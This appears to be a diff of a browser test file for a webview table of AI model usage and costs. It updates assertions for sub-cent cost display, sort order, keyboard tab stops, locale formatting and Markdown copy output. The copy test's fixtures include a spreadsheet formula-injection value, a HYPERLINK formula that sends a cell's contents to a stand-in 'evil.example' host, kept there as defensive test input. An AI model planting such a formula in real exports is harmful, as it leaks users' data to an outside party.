@@ -67,7 +67,8 @@ describe('usage table webview', function () {
     assert.equal(claude[5], 'n/a');
     assert.equal(mistral[6], 'n/a');
     assert.equal(gemini[4], '45,210');
-    assert.equal(gemini[6], '$0.0042', 'a cost below a cent keeps its significant digits');
+    assert.equal(gemini[6], '<$0.01', 'money to the cent: a cost below a cent is not $0.00');
+    assert.equal(await page.locator('.body .row').nth(3).locator('.cell').nth(6).getAttribute('title'), '$0.0042');
     assert.equal(gemini[7], '90.4%');
 
     const na = page.locator('.body .row').nth(2).locator('.cell.na').first();
@@ -111,11 +112,13 @@ describe('usage table webview', function () {
     assert.deepEqual(clipped, { overflow: 'ellipsis', cut: true });
   });
 
-  it('sorts by requests: descending, ascending, original order; the grand total stays at the bottom', async () => {
+  it('sorts by requests: descending, ascending, the order it opened in; the grand total stays at the bottom', async () => {
     await wv.load(modelsTable());
-    await inFileOrder(wv.page);
     const page = wv.page;
-    const original = await columnTexts(page, 'Name');
+    const opening = await columnTexts(page, 'Name');
+    await inFileOrder(page);
+    const fileOrder = await columnTexts(page, 'Name');
+    assert.notDeepEqual(fileOrder, opening, 'the table opens ranked, not in file order');
     await sortButton(page, 'Requests').click();
     assert.deepEqual(await columnTexts(page, 'Requests'), ['45,210', '2,400', '1,750', '310', '300', '30']);
     assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), 'descending');
@@ -123,9 +126,13 @@ describe('usage table webview', function () {
     assert.deepEqual(await columnTexts(page, 'Requests'), ['30', '300', '310', '1,750', '2,400', '45,210']);
     assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), 'ascending');
     await sortButton(page, 'Requests').click();
-    assert.deepEqual(await columnTexts(page, 'Name'), original);
+    // The third click returns to the ranking the table opened with, not to the file's order.
+    assert.deepEqual(await columnTexts(page, 'Name'), opening);
     assert.equal(await header(page, 'Requests').getAttribute('aria-sort'), null);
     assert.equal((await totalRow(page))[0], 'Total');
+    // File order is still one click away.
+    await inFileOrder(page);
+    assert.deepEqual(await columnTexts(page, 'Name'), fileOrder);
   });
 
   it('sorts by cost numerically with n/a last in both directions', async () => {
@@ -133,9 +140,9 @@ describe('usage table webview', function () {
     await inFileOrder(wv.page);
     const page = wv.page;
     await sortButton(page, 'Cost (USD)').click();
-    assert.deepEqual(await columnTexts(page, 'Cost (USD)'), ['$30.10', '$12.59', '$0.20', '$0.10', '$0.0042', 'n/a']);
+    assert.deepEqual(await columnTexts(page, 'Cost (USD)'), ['$30.10', '$12.59', '$0.20', '$0.10', '<$0.01', 'n/a']);
     await sortButton(page, 'Cost (USD)').click();
-    assert.deepEqual(await columnTexts(page, 'Cost (USD)'), ['$0.0042', '$0.10', '$0.20', '$12.59', '$30.10', 'n/a']);
+    assert.deepEqual(await columnTexts(page, 'Cost (USD)'), ['<$0.01', '$0.10', '$0.20', '$12.59', '$30.10', 'n/a']);
     await sortButton(page, 'Name').click();
     assert.deepEqual((await columnTexts(page, 'Name')).slice(0, 3), [
       'o3-mini',
@@ -161,7 +168,11 @@ describe('usage table webview', function () {
     assert.deepEqual(await columnTexts(page, 'Name'), ['o3-mini', 'gpt-4o-mini']);
     const cost = page.locator('.foot .cell').nth(6);
     assert.equal(await cost.textContent(), '$0.30');
-    assert.equal(await cost.getAttribute('title'), '0.3', '0.1 + 0.2 is exactly 0.3, not 0.30000000000000004');
+    assert.equal(
+      await cost.getAttribute('title'),
+      null,
+      '0.1 + 0.2 is exactly $0.30: no other figure behind the cents',
+    );
 
     await page.locator('.filter-input').fill('zzz');
     assert.equal(await page.locator('.body .row').count(), 0);
@@ -224,7 +235,7 @@ describe('usage table webview', function () {
     await page.bringToFront();
     await page.evaluate(() => (document.activeElement as HTMLElement | null)?.blur());
     const stops: string[] = [];
-    for (let i = 0; i < 11; i++) {
+    for (let i = 0; i < 12; i++) {
       await page.keyboard.press('Tab');
       stops.push(await focused());
     }
@@ -238,6 +249,7 @@ describe('usage table webview', function () {
       'File order',
       'Per-model totals',
       'Filter (model, provider, source…)',
+      'Columns…',
       'grid',
       'Name',
     ]);
@@ -321,9 +333,9 @@ describe('usage table webview', function () {
     assert.deepEqual(copies[1].text.split('\n'), [
       '| Name | Provider | Source | BYOK | Requests | Input tokens | Cost (USD) | Share of requests | Cost per 1k requests |',
       '| --- | --- | --- | --- | ---: | ---: | ---: | ---: | ---: |',
-      '| =HYPERLINK("https://evil.example/?q="&A1,"Click") | @evil | n/a | No | 300 | n/a | $0.10 | 0.6% | $0.33 |',
-      '| -2+3 | evil \\| pipe   tab | n/a | No | 30 | n/a | -$1.50 | 0.1% | $6.67 |',
-      '| Total |  |  |  | 330 | n/a | -$1.40 | 0.7% | -$4.24 |',
+      '| =HYPERLINK("https://evil.example/?q="&A1,"Click") | @evil | n/a | No | 300 | n/a | $0.10 | 0.6% | $0.333333 |',
+      '| -2+3 | evil \\| pipe   tab | n/a | No | 30 | n/a | -$1.50 | 0.1% | $6.666667 |',
+      '| Total |  |  |  | 330 | n/a | -$1.40 | 0.7% | -$4.242424 |',
       '',
     ]);
   });
@@ -383,7 +395,7 @@ describe('usage table webview', function () {
     const gemini = (await bodyRows(page))[3];
     assert.equal(gemini[4], '45.210');
     // Intl puts a (narrow) no-break space before the unit in German.
-    assert.equal(gemini[6].replace(/\s/g, ' '), '0,0042 $');
+    assert.equal(gemini[6].replace(/\s/g, ' '), '<0,01 $', 'to the cent');
     assert.equal(gemini[7].replace(/\s/g, ' '), '90,4 %');
   });
 
